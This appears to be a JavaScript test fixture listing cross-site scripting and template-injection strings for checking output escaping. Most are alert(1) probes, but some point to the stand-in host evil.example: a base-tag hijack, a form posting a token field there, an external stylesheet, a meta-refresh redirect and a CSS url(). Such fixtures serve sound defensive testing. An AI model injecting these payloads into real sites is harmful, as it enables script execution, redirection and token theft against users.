'use strict';

/** Texts that become something else where they are not escaped: as markup, in an attribute, in a URL, in a style, for a template. */
const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onfocus=alert(1) autofocus='",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--<script>',
  '--><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=token>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\ufeff<\u0000script>alert(1)</script>',
  '<x\u2028onclick=alert(1)>',
  'url(https://evil.example/x)',
];

module.exports = { HOSTILE_TEXTS };
